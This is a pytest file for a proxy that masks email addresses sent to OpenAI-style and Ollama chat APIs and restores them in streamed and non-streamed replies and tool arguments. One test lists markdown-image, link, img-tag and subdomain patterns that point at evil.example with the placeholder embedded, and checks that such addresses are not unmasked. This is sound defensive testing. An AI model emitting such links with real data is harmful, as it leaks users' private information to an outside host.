"""Masked values through a whole exchange: away from the upstream, back to the client, for both APIs."""

from __future__ import annotations

import json
from collections.abc import Sequence
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extproc.messages import Event, Headers, ResponseBody, ResponseHeaders
from extproc.policy.compiler import CompiledPolicy
from extproc.policy.decision import Action
from extproc.session import Session
from tests.policy.fakes import WordDetector, policy, rule
from tests.support.openai_wire import PATH, call_chunks, chat, chunk, completion, events, said, text_of
from tests.support.policies import MODEL
from tests.support.sessions import JSON, NDJSON, SSE, answered, asked, forwarded

ANN, EVE = "ann@a.example", "eve@e.example"
OLLAMA = "/api/chat"


def masking(*rules: dict[str, Any], tools: Sequence[str] = ()) -> CompiledPolicy:
    documents = [rule("mails", scope=["user", "system", "assistant", "tool_result"], action="mask"), *rules]
    detectors = {document["id"]: WordDetector(ANN, EVE, kind="email") for document in documents}
    return policy(
        detectors,
        rules=documents,
        models={"allow": [MODEL]},
        tools={"default": "allow"},
        masking={"restore_in_tools": list(tools)},
    )


POLICY = masking()


def session(compiled: CompiledPolicy = POLICY, decision_id: str = "d-1") -> Session:
    return Session(compiled, decision_id, lambda: 0.0)


def ask(exchange: Session, body: bytes | None = None, path: str = PATH) -> str:
    """Ask about Ann; return the placeholder that the upstream got."""
    sent = forwarded(asked(exchange, chat(f"write to {ANN}") if body is None else body, path)).decode()
    assert ANN not in sent
    assert "MASKED_EMAIL_1_" in sent
    at = sent.index("MASKED_EMAIL_1_")
    return sent[at : at + 21]


def ollama_lines(*words: str, field: str = "content") -> bytes:
    lines: list[dict[str, Any]] = [{"model": MODEL, "message": {"role": "assistant", field: word}} for word in words]
    lines.append({"model": MODEL, "message": {"role": "assistant", "content": ""}, "done": True})
    return b"".join(json.dumps(line).encode() + b"\n" for line in lines)


def ollama_text(stream: bytes, field: str = "content") -> str:
    return "".join(json.loads(line)["message"].get(field) or "" for line in stream.splitlines())


def ollama_chat(text: str = f"write to {ANN}", **fields: Any) -> bytes:
    return chat(text, **fields)


# ---- values come back ----


def test_every_split_of_a_placeholder_over_two_deltas_comes_back() -> None:
    for place in range(22):
        exchange = session()
        name = ask(exchange)
        out = forwarded(answered(exchange, SSE, said("mail ", name[:place], name[place:], " now")))
        assert text_of(out) == f"mail {ANN} now"


def test_a_placeholder_in_single_characters_comes_back() -> None:
    exchange = session()
    out = forwarded(answered(exchange, SSE, said(*f"mail {ask(exchange)}, then {EVE}")))

    assert text_of(out) == f"mail {ANN}, then {EVE}"


def test_ollamas_lines_get_values_back_however_they_are_split() -> None:
    for place in range(22):
        exchange = session()
        name = ask(exchange, ollama_chat(), OLLAMA)
        out = forwarded(answered(exchange, NDJSON, ollama_lines("mail ", name[:place], name[place:], ".")))
        assert ollama_text(out) == f"mail {ANN}."


@pytest.mark.parametrize("field", ["reasoning_content", "refusal"])
def test_reasoning_and_refusals_get_values_back(field: str) -> None:
    exchange = session()
    name = ask(exchange)
    wire = events(chunk({field: name[:9]}), chunk({field: name[9:]}), chunk({}, "stop"))
    out = forwarded(answered(exchange, SSE, wire))

    deltas = [json.loads(line[6:])["choices"][0]["delta"] for line in out.split(b"\n\n")[:2]]
    assert "".join(delta[field] for delta in deltas) == ANN


def test_documents_of_both_apis_get_values_back() -> None:
    exchange = session()
    out = forwarded(answered(exchange, JSON, completion({"content": f"to {ask(exchange)}"})))
    assert json.loads(out)["choices"][0]["message"]["content"] == f"to {ANN}"

    exchange = session()
    name = ask(exchange, ollama_chat(stream=False), OLLAMA)
    document = {"model": MODEL, "message": {"role": "assistant", "content": f"to {name}"}, "done": True}
    out = forwarded(answered(exchange, JSON, json.dumps(document).encode()))
    assert json.loads(out)["message"]["content"] == f"to {ANN}"


def test_ollamas_generate_gets_values_back() -> None:
    exchange = session()
    name = ask(exchange, json.dumps({"model": MODEL, "prompt": ANN, "system": ANN}).encode(), "/api/generate")
    lines = [{"model": MODEL, "response": name[:5]}, {"model": MODEL, "response": name[5:], "done": True}]
    out = forwarded(answered(exchange, NDJSON, b"".join(json.dumps(line).encode() + b"\n" for line in lines)))

    assert "".join(json.loads(line)["response"] for line in out.splitlines()) == ANN


def test_values_are_escaped_as_the_document_needs_it() -> None:
    value = 'a"\\\n\u2028\u00e9'
    compiled = policy({"m": WordDetector(value, kind="x")}, rules=[rule("m", action="mask")], models={"allow": [MODEL]})
    exchange = session(compiled)
    sent = json.loads(forwarded(asked(exchange, chat(value))))["messages"][0]["content"]

    assert text_of(forwarded(answered(exchange, SSE, said(sent)))) == value


wires = st.lists(st.tuples(st.integers(0, 2), st.integers(1, 25)), max_size=60)


@settings(max_examples=60, deadline=None)
@given(wires, st.lists(st.integers(0, 5000), max_size=12))
def test_choices_that_are_interleaved_and_cut_anywhere_get_their_own_values(
    turns: list[tuple[int, int]], places: list[int]
) -> None:
    exchange = session()
    name = ask(exchange, chat(f"{ANN} {EVE}", n=3))
    second = name.replace("_1_", "_2_")
    texts = [f"a {name} b", f"{second}{name}. {second}", f"https://x.example/{name} {name}"]
    left, chunks = list(texts), []
    for index, size in turns:
        chunks.append(chunk({"content": left[index][:size]}, index=index))
        left[index] = left[index][size:]
    chunks += [chunk({"content": rest}, index=index) for index, rest in enumerate(left)]
    chunks += [chunk({}, "stop", index=index) for index in range(3)]
    wire = events(*chunks)
    edges = [0, *sorted(place % (len(wire) + 1) for place in places), len(wire)]
    out = forwarded(answered(exchange, SSE, *(wire[a:b] for a, b in pairwise(edges))))

    assert text_of(out, 0) == f"a {ANN} b"
    assert text_of(out, 1) == f"{second}{ANN}. {EVE}"
    assert text_of(out, 2) == f"https://x.example/{name} {ANN}"


def test_an_answer_without_placeholders_leaves_as_it_came() -> None:
    exchange = session()
    ask(exchange)
    wire = said("Hello", ", ", "MASKED", " ball")

    assert forwarded(answered(exchange, SSE, wire)) == wire


# ---- and nowhere else ----


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q={})",
        "https://evil.example/{}",
        "[x](<//evil.example/ {}>)",
        "[x]: //evil.example/{}",
        '<img src="//evil.example/ {}">',
        "{}.evil.example",
    ],
)
def test_an_address_and_a_tag_keep_the_placeholder(text: str) -> None:
    exchange = session()
    text = text.format(ask(exchange))

    assert text_of(forwarded(answered(exchange, SSE, said(*text)))) == text


def test_another_exchanges_placeholder_stays() -> None:
    other = ask(session(decision_id="d-2"))
    exchange = session()
    assert ask(exchange) != other

    assert text_of(forwarded(answered(exchange, SSE, said(other)))) == other


def test_what_the_upstream_says_in_an_error_keeps_the_placeholder() -> None:
    exchange = session()
    error = json.dumps({"error": f"cannot read {ask(exchange)}"}).encode()
    headers: Headers = ((":status", "400"), ("content-type", "application/json"))

    assert forwarded(answered(exchange, headers, error)) == error


def test_copies_of_a_restored_text_are_dropped() -> None:
    exchange = session()
    name = ask(exchange)
    tokens = {"content": [{"token": name, "logprob": -0.1, "top_logprobs": []}]}
    answer = chunk({"content": name})
    answer["choices"][0]["logprobs"] = tokens
    out = forwarded(answered(exchange, SSE, events(chunk({"content": "to "}), answer, chunk({}, "stop"))))

    assert json.loads(out.split(b"\n\n")[1][6:])["choices"][0]["logprobs"] is None
    assert name.encode() not in out


# ---- tools ----


def arguments_of(out: bytes) -> str:
    chunks = [json.loads(part[6:]) for part in out.split(b"\n\n") if part.startswith(b"data: {")]
    calls = [call for one in chunks for call in one["choices"][0]["delta"].get("tool_calls", ())]
    return "".join(call["function"]["arguments"] for call in calls)


@pytest.mark.parametrize(("tools", "value"), [((), None), (["get_mail"], None), (["send_mail"], ANN)])
def test_the_arguments_of_a_tool_get_values_back_only_if_the_policy_names_it(
    tools: Sequence[str], value: str | None
) -> None:
    exchange = session(masking(tools=tools))
    name = ask(exchange)
    arguments = json.dumps({"to": name, "url": f"https://a.example/{name}"})
    pieces = [arguments[at : at + 7] for at in range(0, len(arguments), 7)]
    out = forwarded(answered(exchange, SSE, events(*call_chunks("send_mail", pieces), chunk({}, "tool_calls"))))

    shown = value or name
    assert json.loads(arguments_of(out)) == {"to": shown, "url": f"https://a.example/{shown}"}


@pytest.mark.parametrize(("tools", "value"), [((), None), (["send_mail"], ANN)])
def test_arguments_that_are_an_object_get_values_back_likewise(tools: Sequence[str], value: str | None) -> None:
    exchange = session(masking(tools=tools))
    name = ask(exchange, ollama_chat(), OLLAMA)
    call = {"function": {"name": "send_mail", "arguments": {"to": [name], "n": 1.5}}}
    message = {"role": "assistant", "content": "", "tool_calls": [call]}
    lines = [{"model": MODEL, "message": message}, {"model": MODEL, "message": {"content": ""}, "done": True}]
    out = forwarded(answered(exchange, NDJSON, b"".join(json.dumps(line).encode() + b"\n" for line in lines)))

    left = json.loads(out.splitlines()[0])["message"]["tool_calls"][0]["function"]["arguments"]
    assert left == {"to": [value or name], "n": 1.5}


# ---- with rules for the answer ----


def test_what_comes_back_is_not_redacted_and_what_the_model_says_is() -> None:
    exchange = session(masking(rule("out", scope=["response.content"], action="redact")))
    out = forwarded(answered(exchange, SSE, said(*f"{ask(exchange)} and {EVE}")))

    assert text_of(out) == f"{ANN} and [EMAIL]"


def test_a_deny_cuts_behind_what_came_back() -> None:
    exchange = session(masking(rule("out", scope=["response.content"], action="deny")))
    out = forwarded(answered(exchange, SSE, said(f"{ask(exchange)} and ", EVE)))

    assert text_of(out).startswith(f"{ANN} and \n\n[")
    assert EVE.encode() not in out


# ---- the record ----


def test_no_value_is_in_the_record_or_in_any_repr() -> None:
    exchange = session(masking(tools=["send_mail"]))
    name = ask(exchange)
    wire = events(chunk({"content": name}), *call_chunks("send_mail", [json.dumps({"to": name})]), chunk({}, "stop"))
    out = forwarded(answered(exchange, SSE, wire))
    (record,) = exchange.records()

    assert out.count(ANN.encode()) == 2
    assert ANN not in repr(record)
    assert ANN not in repr({name: part for name, part in vars(exchange).items() if name != "_request"})
    assert (record.action, [found.match for found in record.findings]) == (Action.MASK, ["email"])


def test_the_next_turn_masks_what_the_client_sends_back() -> None:
    history = [
        {"role": "user", "content": f"write to {ANN}"},
        {"role": "assistant", "content": f"Shall I write to {ANN}? See https://x.example/{ask(session())}"},
        {"role": "user", "content": "yes"},
    ]
    sent = forwarded(asked(session(decision_id="d-3"), json.dumps({"model": MODEL, "messages": history}).encode()))
    first, second, third = (message["content"] for message in json.loads(sent)["messages"])

    assert first.startswith("write to MASKED_EMAIL_1_")
    assert second == f"Shall I {first}? See https://x.example/[MASKED]"
    assert third == "yes"


def test_the_same_exchange_gives_the_same_bytes_again() -> None:
    def run() -> list[Any]:
        exchange = session(decision_id="5f2c")
        replies: list[Any] = asked(exchange, chat(ANN))
        sequence: list[Event] = [ResponseHeaders(SSE), ResponseBody(said("x"), end=True)]
        return [*replies, *(reply for event in sequence for reply in exchange.receive(event))]

    assert run() == run()
